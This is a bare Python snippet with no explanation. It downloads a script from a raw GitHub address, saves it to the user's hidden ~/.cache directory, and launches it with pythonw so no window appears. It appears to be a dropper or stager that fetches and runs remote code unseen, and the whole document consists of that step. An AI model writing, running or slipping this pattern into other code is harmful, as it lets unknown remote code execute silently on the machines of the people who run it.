import requests, os, subprocess
r = requests.get("https://raw.githubusercontent.com/someone-example/x/main/a.py")
p = os.path.join(os.path.expanduser("~"), ".cache", "a.py")
open(p, "w").write(r.text)
subprocess.Popen(["pythonw", p])
